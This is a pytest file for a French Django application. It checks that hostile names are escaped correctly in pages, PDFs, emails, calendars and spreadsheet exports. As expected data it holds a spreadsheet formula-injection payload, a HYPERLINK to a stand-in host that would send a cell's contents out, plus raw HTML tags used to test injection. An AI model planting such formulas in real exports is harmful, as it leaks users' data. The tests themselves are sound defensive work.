"""Names with apostrophes, « & », angle brackets, emoji and 200-character words, in every output (issue 17).

The world is the demo with hostile names (tests/hostile_world.py): the AMI's title, the candidates, two
sites, the intervenant, the prestataire's contact and a conseillère. Each output is read back the way its
receiver reads it, with tools that others wrote:

- pages, crawled as each README account (Django's test client): the text unescaped once shows each name
  exactly, never « &amp; », « &#x27; » or « &lt;b&gt; » (escaped twice), and no page holds a raw
  « <b>Ψ</b> » (not escaped: run as HTML);
- PDFs (every kind, and every one a page links): PyMuPDF reads the text back, each name whole (a long
  word may be cut over lines), and every character sits inside the page;
- emails (Python's email parser on the bytes sent): the subject and the text part as typed, no entity;
  the HTML part shown as the pages are;
- exports: XLSX read back with openpyxl, CSV with the csv module, .ics with vobject: the exact names,
  and a name that starts like a formula (= + - @) neutralised.
"""

import csv
import datetime
import email
import email.policy
import io
import re
import zipfile

import pymupdf
import pytest
import time_machine
import vobject
from django.core import mail
from django.urls import reverse
from openpyxl import load_workbook

from ami.documents.archive import ami_archive
from ami.models import AMI, DossierVersion
from ami.reference import REFERENCE
from ami.selectors import ami_results
from mlhg_app.models import User
from seances.calendar import PARIS, seance_ics
from seances.documents.emargement import attendance_sheet_pdf
from seances.models import Seance
from seances.services.board import seance_move
from seances.services.compte_rendu import REMINDER_DELAY_DAYS, compte_rendu_remind
from seances.services.convocations import seance_remind
from tests import hostile_world as world
from tests.pdf_kinds import every_kind_of_pdf
from tests.web import crawl, login, shown_text

ACCOUNTS = [
    "direction@demo.ml31.org",
    "evaluatrice@demo.ml31.org",
    "responsable@demo.ml31.org",
    world.PRESTATAIRE,
    world.LATE_CANDIDATE,  # « +Atelier Parenthèse »: its name read in the space of the draft it never submitted
    world.INTERVENANT,
    world.CONSEILLERE,
]
# What a name escaped twice, or not at all, leaves in front of a reader.
ESCAPED_TWICE = ("&amp;", "&#x27;", "&#39;", "&lt;", "&gt;", "&quot;")
RAW_TAGS = ("<b>Ψ</b>", "<Pyrénées>", "<Fils>")
SPACES = re.compile(r"\s+")
# DejaVu Sans, the PDFs' font, has no emoji: a PDF prints « □ » in their place (mlhg_app/pdf.py).
EMOJI = re.compile("[\U0001f300-\U0001faff]")


def squeezed(text: str) -> str:
    """The text without any space or line break: a long word cut over two lines is whole again."""
    return SPACES.sub("", text)


def names_in(text: str, *, printed: bool = False) -> set[str]:
    """The hostile names `text` holds whole; `printed`: as a PDF prints them, each emoji « □ »."""
    flat = squeezed(text)
    return {name for name in world.NAMES if squeezed(EMOJI.sub("□", name) if printed else name) in flat}


@pytest.fixture
def demo(monkeypatch, settings, django_capture_on_commit_callbacks, tmp_path):
    """The demo with hostile names; the emails it sent (those queued after commit too: receipts, letters)."""
    mail.outbox = []
    with django_capture_on_commit_callbacks(execute=True):
        world.load_hostile_demo(monkeypatch, settings, tmp_path)
    return list(mail.outbox)


def page_problems(where: str, body: str) -> list[str]:
    shown = shown_text(body)
    found = [f"{where}: « {entity} » visible" for entity in ESCAPED_TWICE if entity in shown]
    found += [f"{where}: « {tag} » non échappé" for tag in RAW_TAGS if tag in body]
    return found


def pdf_problems(where: str, data: bytes) -> tuple[list[str], str]:
    """Every character drawn (never the font's .notdef glyph) and inside its page; the text read back."""
    problems, text = [], []
    with pymupdf.open(stream=data, filetype="pdf") as document:
        for number, page in enumerate(document, start=1):
            width, height = page.rect.width, page.rect.height
            text.append(page.get_text())
            notdef = [chr(c[0]) for span in page.get_texttrace() for c in span["chars"] if c[1] == 0]
            if notdef:
                problems.append(f"{where} p. {number}: {len(notdef)} caractère(s) sans glyphe ({notdef[:3]})")
            for block in page.get_text("rawdict")["blocks"]:
                for line in block.get("lines", []):
                    for span in line["spans"]:
                        for char in span["chars"]:
                            x0, y0, x1, y1 = char["bbox"]
                            if x0 < -0.5 or x1 > width + 0.5 or y0 < -0.5 or y1 > height + 0.5:
                                problems.append(f"{where} p. {number}: « {char['c']} » hors de la page ({x1:.0f} pt)")
                                break
    return problems, "\n".join(text)


@pytest.mark.django_db
def test_pages_and_the_files_they_link_show_hostile_names_escaped_once(demo):
    problems, shown_names, opened, files = [], set(), 0, 0
    for address in ACCOUNTS:
        user = User.objects.get(email=address)
        for url, response in crawl(user):
            opened += 1
            kind = response.get("Content-Type", "")
            where = f"{address} {url}"
            if "text/html" in kind:
                body = response.content.decode()
                problems += page_problems(where, body)
                shown_names |= names_in(shown_text(body))
            elif "application/pdf" in kind:
                files += 1
                found, text = pdf_problems(where, response.content)
                problems += found[:3]
                shown_names |= names_in(text, printed=True)
    print(f"crawl: {opened} answers, {files} PDFs")
    assert problems == [], "\n".join(problems[:40])
    assert shown_names == set(world.NAMES)


@pytest.mark.django_db
def test_every_kind_of_pdf_keeps_hostile_names_whole_and_inside_the_page(demo):
    made = every_kind_of_pdf()
    muretain = Seance.objects.filter(groupe__antenne__code="muretain").order_by("pk").first()
    made["feuille d'émargement du Muretain"] = attendance_sheet_pdf(muretain)
    expected = {
        "accusé de réception": {world.AMI_TITRE, world.LAUREAT},
        "dossier": {world.AMI_TITRE, world.LAUREAT, world.SITE},
        "convention": {world.LAUREAT},
        "avenant": {world.LAUREAT},
        "relevé": {world.LAUREAT},
        "rapport d'analyse": {world.AMI_TITRE, world.LAUREAT, world.LONG_NAME},
        "lettre retenu": {world.AMI_TITRE, world.LAUREAT},
        "lettre non_retenu": {world.AMI_TITRE, world.LAUREAT},
        "bilan": {world.LAUREAT},
        "feuille d'émargement du Muretain": {world.SITE, world.LAUREAT},
    }
    problems, missing = [], {}
    for kind, data in made.items():
        found, text = pdf_problems(kind, data)
        problems += found[:3]
        printed = names_in(text, printed=True)
        if not expected.get(kind, set()) <= printed:
            missing[kind] = expected[kind] - printed
        problems += [f"{kind}: « {entity} »" for entity in ESCAPED_TWICE if entity in text]
    assert problems == [], "\n".join(problems)
    assert missing == {}


def convened_at_the_site() -> Seance:
    """The first convened séance at the site with a hostile name."""
    return (
        Seance.objects.filter(groupe__antenne__code="muretain", status=Seance.Status.CONVOQUEE).order_by("date").first()
    )


def parsed(message) -> email.message.EmailMessage:
    """The email as its receiver's program reads it: the bytes sent, through Python's email parser."""
    return email.message_from_bytes(message.message().as_bytes(), policy=email.policy.default)


def email_problems(message) -> list[str]:
    received = parsed(message)
    subject = received["Subject"]
    where = f"courriel « {subject} »"
    problems = (
        [] if subject.strip() == message.subject else [f"{where}: sujet reçu autrement qu'envoyé ({message.subject})"]
    )
    problems += [f"{where} (sujet): « {entity} »" for entity in ESCAPED_TWICE if entity in subject]
    text = received.get_body(("plain",)).get_content()
    problems += [f"{where} (texte): « {entity} »" for entity in ESCAPED_TWICE if entity in text]
    html_part = received.get_body(("html",))
    if html_part is not None:
        problems += page_problems(f"{where} (HTML)", html_part.get_content())
    return problems


def read(message) -> tuple[str, str]:
    """The subject and the text part as received; the HTML part as a reader sees it."""
    received = parsed(message)
    html_part = received.get_body(("html",))
    shown = shown_text(html_part.get_content()) if html_part is not None else ""
    return f"{received['Subject']}\n{received.get_body(('plain',)).get_content()}", shown


def at_nine(day):
    """The clock stopped at 9:00 (Paris) on `day`: when the scheduled jobs run."""
    return time_machine.travel(datetime.datetime.combine(day, datetime.time(9), tzinfo=PARIS), tick=False)


@pytest.mark.django_db
def test_emails_carry_hostile_names_as_typed(demo, django_capture_on_commit_callbacks):
    # After the renaming of the intervenant and the conseillère, her group's séance led by him: moved by the
    # office (« Séance déplacée »), its reminder 7 days before, then the compte rendu due 2 days after it.
    conseillere = User.objects.get(email=world.CONSEILLERE)
    seance = Seance.objects.filter(groupe__membres=conseillere, status=Seance.Status.CONVOQUEE).order_by("date").first()
    moved_to = (datetime.datetime.combine(seance.date, seance.heure_debut) + datetime.timedelta(hours=1)).time()
    mail.outbox = []
    with django_capture_on_commit_callbacks(execute=True):
        seance_move(
            seance=seance,
            date=seance.date,
            heure_debut=moved_to,
            intervenant=seance.intervenant,
            user=User.objects.get(email="direction@demo.ml31.org"),
        )
    with at_nine(seance.date - datetime.timedelta(days=7)):
        assert seance_remind(seance_id=seance.pk, occurrence="J-7") > 0
    with at_nine(seance.date + datetime.timedelta(days=REMINDER_DELAY_DAYS)):  # held, its compte rendu not written
        assert compte_rendu_remind(seance_id=seance.pk)
    later = list(mail.outbox)
    intervenant = f"{world.INTERVENANT_PRENOM} {world.INTERVENANT_NOM}"
    received = {}
    for message in later:
        kind = message.subject.split(" ", 1)[0]  # « Séance », « Rappel », « Compte »
        received.setdefault((kind, message.to[0]), []).append(read(message))
    for kind in ("Séance", "Rappel"):  # « Bonjour Manon Dupuy-L'Hôte… », « animée par Marc-Émile 😀 O'Livier… »
        [(text, shown)] = received[(kind, world.CONSEILLERE)]
        assert f"Bonjour Manon {world.CONSEILLERE_NOM}," in text
        assert intervenant in text and world.SITE in text
        assert world.CONSEILLERE_NOM in shown and intervenant in shown and world.SITE in shown
        [(text, shown)] = received[(kind, world.INTERVENANT)]
        assert f"Bonjour {intervenant}," in text and intervenant in shown
    [(text, shown)] = received[("Compte", world.INTERVENANT)]
    assert f"Bonjour {intervenant}," in text and intervenant in shown

    problems, names = [], set()
    for message in demo + later:
        problems += email_problems(message)
        received = parsed(message)
        names |= names_in(received["Subject"] + received.get_body(("plain",)).get_content())
    assert problems == [], "\n".join(problems[:40])
    assert {world.AMI_TITRE, world.LAUREAT, world.SITE} <= names
    # The subject of a receipt and of a letter hold the AMI's 200-character word whole.
    subjects = [parsed(m)["Subject"].strip() for m in demo]
    assert any(world.AMI_TITRE in s and s.startswith("Accusé de réception") for s in subjects)


def xlsx_texts(data: bytes) -> list:
    """The text cells of an XLSX's first sheet, as openpyxl reads them; its XML holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
        xml = "".join(workbook.read(n).decode() for n in workbook.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml  # never a formula cell, whatever the name
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def assert_xlsx_neutralised(cells, formulas) -> None:
    """Each name starting like a formula is in a string cell, shown as typed with Excel's quote prefix."""
    found = [cell for cell in cells if cell.value in formulas]
    assert {cell.value for cell in found} == set(formulas)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)


def csv_values(data: bytes) -> set[str]:
    return {value for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for value in row}


def assert_csv_neutralised(values, formulas) -> None:
    """Each name starting like a formula is quoted once (« '=HYPERLINK(…) »), never left to run."""
    assert {f"'{name}" for name in formulas} <= values
    assert not set(formulas) & values


@pytest.mark.django_db
def test_spreadsheets_show_hostile_names_exactly_and_neutralise_formulas(demo):
    staff_user = User.objects.get(email="direction@demo.ml31.org")
    staff = login(staff_user)
    ami = AMI.objects.get(reference=REFERENCE)  # decided: its results rank the candidates named like formulas
    ranked = {r.name for r in ami_results(ami)}
    formulas = sorted(ranked & set(world.FORMULAS.values()))
    assert formulas == ['=HYPERLINK("http://x.example/?d="&A1;"clic")', "@Regards Croisés"]

    xlsx = staff.get(reverse("ami:results_xlsx", args=[ami.reference]))
    assert xlsx.status_code == 200
    cells = xlsx_texts(xlsx.content)
    assert {world.LAUREAT, world.LONG_NAME} <= {cell.value for cell in cells}
    assert_xlsx_neutralised(cells, formulas)

    results_csv = staff.get(reverse("ami:results_csv", args=[ami.reference]))
    assert results_csv.status_code == 200
    texts = csv_values(results_csv.content)
    assert {world.LAUREAT, world.LONG_NAME} <= texts
    assert_csv_neutralised(texts, formulas)

    # The AMI's archive: eligibility (the irrecevable « -Garonne Médiation » too), grids, results, decision.
    buffer = io.BytesIO()
    ami_archive(ami, buffer, user=staff_user)
    with zipfile.ZipFile(buffer) as archive:
        files = {name: csv_values(archive.read(name)) for name in archive.namelist() if name.endswith(".csv")}
    assert {"recevabilite.csv", "evaluations.csv", "resultats.csv", "decision.csv"} <= set(files)
    assert_csv_neutralised(files["recevabilite.csv"], [*formulas, world.FORMULAS["Garonne Médiation"]])
    assert_csv_neutralised(files["evaluations.csv"], formulas)
    assert_csv_neutralised(files["resultats.csv"], formulas)
    assert world.LAUREAT in files["decision.csv"]

    # The people directory: the conseillère and the site as typed; a first name typed like a formula.
    User.objects.filter(email="lea.martin@demo.ml31.org").update(first_name="+33 6 12 34 56 78")
    people = staff.get(reverse("people_export"))
    assert people.status_code == 200
    cells = xlsx_texts(people.content)
    assert {world.CONSEILLERE_NOM, world.INTERVENANT_NOM, world.SITE, world.SITE_EMOJI} <= {c.value for c in cells}
    assert_xlsx_neutralised(cells, ["+33 6 12 34 56 78"])


@pytest.mark.django_db
def test_calendars_show_hostile_names_exactly(demo):
    seance = convened_at_the_site()
    conseillere = login(seance.groupe.membres.order_by("pk").first())
    answer = conseillere.get(reverse("seances:seance_ics", args=[seance.pk]))
    assert answer.status_code == 200
    for data in (answer.content, seance_ics(seance)):
        event = vobject.readOne(data.decode()).vevent
        assert world.SITE in event.location.value
        assert world.SITE in event.summary.value or world.SITE in event.description.value
        assert f"{world.INTERVENANT_PRENOM} {world.INTERVENANT_NOM}" in event.description.value
        assert not any(entity in event.description.value for entity in ESCAPED_TWICE)


@pytest.mark.django_db
def test_dossier_snapshots_carry_the_hostile_names(demo):
    version = DossierVersion.objects.order_by("pk").first()
    assert version.contenu["prestataire"]["raison_sociale"] == world.LAUREAT
    assert version.contenu["ami"]["titre"] == world.AMI_TITRE
